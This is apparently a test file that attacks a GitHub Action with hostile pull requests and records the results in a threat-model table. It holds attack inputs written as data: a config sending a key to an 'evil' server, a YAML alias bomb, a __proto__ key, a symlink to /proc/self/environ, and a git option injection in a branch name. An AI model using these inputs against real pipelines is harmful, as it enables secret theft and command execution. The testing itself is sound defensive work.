// What people who may push a branch, open a pull request or write a comment try against the built Action, row by row. The
// table in docs/threat-model.md is what these runs did: `vitest run __tests__/action/hostile-pull-requests.test.ts -u` renews it.
import { readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { countInputs } from '../support/count-inputs.ts';
import { ROOT } from '../support/cli.ts';
import { dispatchEvent, mergeGroupEvent, pushEvent } from '../support/runner/events.ts';
import {
  CONFLICT,
  createGatedRepository,
  harborConfig,
  harborFile,
  QUICK,
  type GatedRepository,
} from '../support/runner/gated-repository.ts';
import { addComment } from '../support/runner/github-state.ts';
import { formsOf, leftBehind } from '../support/runner/left-behind.ts';
import type { ActionRun } from '../support/runner/start-action.ts';

/** Milliseconds a run may take, on a busy machine. */
const LONG = 300_000;
const KEY = 'sk-live-0123456789abcdef';
const env = { LIVE_KEY: KEY };

let gated: GatedRepository;
beforeAll(async () => {
  gated = await createGatedRepository({
    'spec-gate.yml': harborConfig(QUICK),
    'labelled.jsonl': `${harborFile('labelled.jsonl').split('\n')[0]}\n`,
  });
});
afterAll(() => gated.close());

/** A config that names the attacker's server, gives it the key, and lets it judge everything. */
function evilConfig(): string {
  const evil = `evil: { kind: openai, baseUrl: "${gated.server.origin}/evil", apiKeyEnv: LIVE_KEY }`;
  return harborConfig(QUICK, ['providers:', `providers:\n  ${evil}`], ['sim/umpire', 'evil/judge']);
}

/** A branch off main with these files, not as a pull request. */
function branch(name: string, files: Readonly<Record<string, string>>): string {
  gated.git.branch(name, gated.base);
  for (const [file, text] of Object.entries(files)) gated.git.write(file, text);
  return gated.git.commit(name);
}

/** The failing edit on top of a branch. */
function failingEditOn(parent: string): string {
  gated.git.git('checkout', '--quiet', '--detach', parent);
  gated.git.write('spec.md', CONFLICT['spec.md']);
  return gated.git.commit('edit');
}

function openOnto(name: string, parent: string): number {
  const number = gated.open({});
  const pull = gated.server.github.pulls.get(number)!;
  pull.head.sha = failingEditOn(parent);
  pull.base = { sha: parent, ref: name };
  return number;
}

interface Row {
  readonly threat: string;
  readonly does: string;
  /** Exit code and verdict; undefined where there was none. */
  readonly ends: readonly [exitCode: number, verdict: string | undefined];
  readonly run: () => Promise<ActionRun>;
  /** What must stand in log, summary or annotations. */
  readonly says?: RegExp;
}

/** A failing edit with more files beside it. */
const failing = (files: () => Readonly<Record<string, string | null>>) => (): Promise<ActionRun> =>
  gated.run(gated.open({ ...CONFLICT, ...files() }), { env });
const alone = (files: () => Readonly<Record<string, string | null>>) => (): Promise<ActionRun> =>
  gated.run(gated.open(files()), { env });

const ROWS: readonly Row[] = [
  {
    threat: 'T1',
    does: 'names its own server and the key in the config it brings, as a judge',
    ends: [1, 'fail'],
    run: failing(() => ({ 'spec-gate.yml': evilConfig() })),
    says: /loosens.*judges/s,
  },
  {
    threat: 'T1',
    does: 'is opened onto the author’s own branch, whose config names the author’s server',
    ends: [1, 'fail'],
    run: async () => {
      const parent = branch('evil-base', { 'spec-gate.yml': evilConfig() });
      return gated.run(openOnto('evil-base', parent), { env });
    },
    says: /judged under the policy of main/,
  },
  {
    threat: 'T1',
    does: 'is a push to a branch whose last commit named the author’s server',
    ends: [1, 'fail'],
    run: async () => {
      const before = branch('evil-push', { 'spec-gate.yml': evilConfig() });
      const push = pushEvent(gated.server.github, { before, after: failingEditOn(before) });
      return gated.start({ ...push, env: { ...push.env, GITHUB_REF: 'refs/heads/evil-push' } }, { env });
    },
    says: /loosens.*judges/s,
  },
  {
    threat: 'T1',
    does: 'waits in the merge queue behind another whose config names the author’s server',
    ends: [1, 'fail'],
    run: async () => {
      const ahead = branch('evil-group', { 'spec-gate.yml': evilConfig() });
      return gated.start(mergeGroupEvent(gated.server.github, { base: ahead, head: failingEditOn(ahead) }), { env });
    },
  },
  {
    threat: 'T1',
    does: 'is for the author’s own branch, and a maintainer is made to start the gate for it by hand',
    ends: [3, undefined],
    run: async () => {
      const number = openOnto('evil-hand', branch('evil-hand', { 'spec-gate.yml': evilConfig() }));
      const { head } = gated.server.github.pulls.get(number)!;
      const inputs = { 'pull-request': String(number), 'head-sha': head.sha };
      return gated.start(dispatchEvent(gated.server.github, { sha: gated.base, inputs }), { env });
    },
    says: /is for the branch evil-hand/,
  },
  {
    threat: 'T4',
    does: 'widens the margins that it fails by',
    ends: [1, 'fail'],
    run: failing(() => ({ 'spec-gate.yml': harborConfig(QUICK, ['judgeAgreement: 0.1', 'judgeAgreement: 1']) })),
    says: /loosens `margins\.judgeAgreement`/,
  },
  {
    threat: 'T4',
    does: 'merges main’s last change and leaves it out, so that one of two merge bases has the text that it brings back',
    ends: [3, undefined],
    run: async () => {
      const { git } = gated;
      const commit = (tree: string, ...parents: readonly string[]): string =>
        git.git('commit-tree', '-m', 'merge', ...parents.flatMap((parent) => ['-p', parent]), `${tree}^{tree}`);
      const before = branch('before-mending', CONFLICT);
      const [mended, other] = [commit(gated.base, before), commit(before, before)];
      const main = commit(gated.base, other, mended);
      const number = gated.open({});
      const pull = gated.server.github.pulls.get(number)!;
      pull.head.sha = commit(before, commit(before, other, mended));
      pull.base = { sha: main };
      return gated.run(number, { env });
    },
    says: /were merged into each other/,
  },
  {
    threat: 'T4',
    does: 'removes the config',
    ends: [1, 'fail'],
    run: failing(() => ({ 'spec-gate.yml': null })),
    says: /loosens `spec-gate\.yml`/,
  },
  {
    threat: 'T4',
    does: 'takes the telling scenarios out of the bank',
    ends: [1, 'fail'],
    run: failing(() => ({
      'bank.jsonl': harborFile('bank.jsonl').replaceAll(/^.*assume_best_intentions.*\n/gm, ''),
    })),
    says: /loosens `bank`/,
  },
  {
    threat: 'T4',
    does: 'takes a model off the list and puts none in its place',
    ends: [1, 'fail'],
    run: alone(() => ({ 'spec-gate.yml': harborConfig(QUICK, ['  - sim/dogwood\n', '']) })),
    says: /loosens `models` from `4 models` to `1 removed \(sim\/dogwood\)`/,
  },
  {
    threat: 'T4',
    does: 'edits the world that simulated models live in',
    ends: [1, 'fail'],
    run: alone(() => ({ 'world.yml': `${harborFile('world.yml')}# easier\n` })),
    says: /loosens `providers\.sim\.world`/,
  },
  {
    threat: 'T4',
    does: 'removes the labelled items',
    ends: [1, 'fail'],
    run: alone(() => ({ 'labelled.jsonl': null })),
    says: /loosens `labelled`/,
  },
  {
    threat: 'T12',
    does: 'has a comment of somebody else’s with the gate’s marker and a green verdict',
    ends: [1, 'fail'],
    run: async () => {
      const number = gated.open(CONFLICT);
      const first = await gated.run(number, { env });
      const [ours] = gated.server.github.comments.get(number)!;
      const body = ours!.body.replace(/^### .*$/m, '### ✅ Spec Gate: pass');
      addComment(gated.server.github, number, { user: { login: 'mallory', type: 'User' }, body });
      const again = await gated.run(number, { env });
      expect(gated.server.github.comments.get(number)!.map(({ user }) => user.login)).toEqual([
        'github-actions[bot]',
        'mallory',
      ]);
      expect(first.outputs['comment-id']).toBe(again.outputs['comment-id']);
      return again;
    },
  },
  {
    threat: 'T15',
    does: 'adds 4,000 scenarios to the bank, so that the run costs more',
    ends: [1, 'fail'],
    run: async () => {
      const [line] = harborFile('bank.jsonl').split('\n');
      const more = Array.from({ length: 4000 }, (_, index) =>
        JSON.stringify({ ...(JSON.parse(line!) as object), id: `flood-${index}` }),
      );
      const number = gated.open({ ...CONFLICT, 'bank.jsonl': `${harborFile('bank.jsonl')}${more.join('\n')}\n` });
      const run = await gated.run(number, { env });
      expect(Number(run.outputs['calls'])).toBeLessThan(1000);
      return run;
    },
  },
  {
    threat: 'T16',
    does: 'brings a config of aliases that would unfold to a billion values',
    ends: [3, undefined],
    run: alone(() => {
      const rows = 'abcdefghi'.split('').map((name, index, all) => {
        const inner = index === 0 ? '"x"' : `*${all[index - 1]}`;
        return `${name}: &${name} [${Array.from({ length: 10 }, () => inner).join(', ')}]`;
      });
      return { 'spec-gate.yml': `${rows.join('\n')}\n${harborConfig(QUICK)}` };
    }),
  },
  {
    threat: 'T17',
    does: 'brings `__proto__` as a key of the config',
    ends: [3, undefined],
    run: alone(() => ({ 'spec-gate.yml': `${harborConfig(QUICK)}\n__proto__: { onInconclusive: report }\n` })),
  },
  {
    threat: 'T18',
    does: 'makes the spec a link to a file of the runner',
    ends: [3, undefined],
    run: async () => {
      const number = gated.open({ 'spec.md': null });
      symlinkSync('/proc/self/environ', join(gated.git.path, 'spec.md'));
      gated.server.github.pulls.get(number)!.head.sha = gated.git.commit('link');
      const run = await gated.run(number, { env });
      gated.git.git('checkout', '--quiet', '--force', gated.base);
      return run;
    },
  },
  {
    threat: 'T20',
    does: 'is for a branch that is called like an option of git',
    ends: [1, 'fail'],
    run: async () => gated.run(openOnto('--upload-pack=touch${IFS}x', gated.base), { env }),
  },
  {
    threat: 'T26',
    does: 'is pushed to while the run of the commit before is under way',
    ends: [1, 'fail'],
    run: async () => {
      const number = gated.open(CONFLICT);
      const pull = gated.server.github.pulls.get(number)!;
      const old = pull.head.sha;
      gated.push(number, { 'docs/notes.md': 'x' });
      const now = pull.head.sha;
      pull.head.sha = old;
      gated.server.prepend(({ method, path }) => {
        // The payload of the run was written before; GitHub has moved on by the time it is asked.
        if (method === 'GET' && path.endsWith(`/pulls/${number}`)) pull.head.sha = now;
        return undefined;
      });
      const run = await gated.run(number, { env });
      expect(gated.comments(number)).toEqual([]);
      return run;
    },
  },
];

const MARKED = /(<!-- hostile pull requests: made by their own run -->\n)[\s\S]*?(<!-- end -->)/;
const done: string[] = [];

describe('a hostile pull request', () => {
  test.each(ROWS.map((row) => [row.threat, row.does, row] as const))(
    '%s: %s',
    async (_threat, _does, { threat, does, ends, run, says }) => {
      const from = gated.server.requests.length;
      const ended = await run();
      const foreign = gated.server.requests.slice(from).filter(({ path }) => path.startsWith('/evil')).length;
      const left = leftBehind(gated, [ended]);
      const leaks = left.filter((text) => [...formsOf(KEY)].some((form) => text.includes(form))).length;
      expect([ended.exitCode, ended.outputs['verdict']]).toEqual(ends);
      expect([foreign, leaks, ended.otherCommands, ended.exported]).toEqual([0, 0, [], '']);
      const told = [ended.log, ended.summary, ...ended.annotations.map(({ message }) => message)].join('\n');
      expect(told).toMatch(says ?? /Spec Gate/);
      countInputs('hostile pull requests', 1);
      const verdict = ended.outputs['verdict'] ?? 'none (refused)';
      done.push(`| ${threat} | ${does} | ${ended.exitCode} | ${verdict} | ${foreign} | ${leaks} |`);
    },
    LONG,
  );
});

test('docs/threat-model.md has the table of these runs', async () => {
  // A run of some of the rows has no table to compare.
  if (done.length < ROWS.length) return;
  const file = join(ROOT, 'docs/threat-model.md');
  const head = '| threat | a pull request | exit code | verdict | requests to foreign servers | texts with the key |';
  const table = [head, '|---|---|--:|---|--:|--:|', ...done].join('\n');
  const text = readFileSync(file, 'utf8').replace(
    MARKED,
    (_all, start: string, end: string) => `${start}${table}\n${end}`,
  );
  expect(text).toContain(table);
  await expect(text).toMatchFileSnapshot(file);
});
